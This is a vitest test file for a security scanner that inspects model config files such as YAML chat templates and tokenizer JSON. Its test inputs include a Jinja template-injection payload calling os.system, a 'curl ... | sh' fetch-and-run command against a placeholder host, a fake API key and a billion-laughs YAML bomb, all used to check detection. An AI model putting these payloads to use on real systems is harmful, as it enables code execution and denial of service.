import { describe, expect, it } from 'vitest';
import { memorySource } from '../../bytes/byte-source';
import { scanSource } from '../../scan';
import { configFileFormat } from '.';

const scan = (name: string, text: string) =>
  scanSource(memorySource(new TextEncoder().encode(text), name), { formats: [configFileFormat] });

describe('JSON/YAML configs', () => {
  it('finds template injection in a YAML chat_template', async () => {
    const r = await scan(
      'model_config.yaml',
      "chat_template: \"{{ config.__class__.__init__.__globals__['os'].system('id') }}\"\nname: x\n"
    );
    expect(r.verdict).toBe('critical');
    expect(r.findings[0].ruleId).toMatch(/^chat-template\./);
  });

  it('leaves a benign YAML template and ordinary configs clean', async () => {
    const yaml =
      "chat_template: '{% for m in messages %}{{ m[''role''] }}: {{ m[''content''] }}\\n{% endfor %}'\ntemperature: 0.7\n";
    expect((await scan('model_config.yaml', yaml)).verdict).toBe('clean');
    expect(
      (await scan('tokenizer.json', '{"bos_token": "<s>", "eos_token_id": 2, "pad_token": "longtoken123"}'))
        .verdict
    ).toBe('clean');
  });

  it('flags credentials (redacted) and shell commands', async () => {
    const r = await scan(
      'settings.json',
      JSON.stringify({ config: { api_key: 'sk-1234567890abcdef', debug: 'curl http://x.example/p.sh | sh' } })
    );
    const ids = r.findings.map((f) => f.ruleId).sort();
    expect(ids).toEqual(['config.embedded-credential', 'config.shell-command']);
    expect(JSON.stringify(r.findings)).not.toContain('1234567890abcdef');
    expect(r.verdict).toBe('medium');
  });

  it('bounds YAML alias expansion (billion laughs) instead of hanging', async () => {
    const lines = ['a: &a ["x","x","x","x","x","x","x","x","x"]'];
    for (let i = 1; i < 12; i++)
      lines.push(
        `${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [*${String.fromCharCode(96 + i)},*${String.fromCharCode(96 + i)},*${String.fromCharCode(96 + i)},*${String.fromCharCode(96 + i)},*${String.fromCharCode(96 + i)},*${String.fromCharCode(96 + i)},*${String.fromCharCode(96 + i)},*${String.fromCharCode(96 + i)},*${String.fromCharCode(96 + i)}]`
      );
    const r = await scan('bomb.yaml', lines.join('\n'));
    expect(r.findings.map((f) => f.ruleId)).toContain('config.unparsed');
  });

  it('reports unparseable configs without failing', async () => {
    const r = await scan('broken.json', '{"a": ');
    expect(r.findings[0]).toMatchObject({ ruleId: 'config.unparsed', severity: 'low' });
  });
});
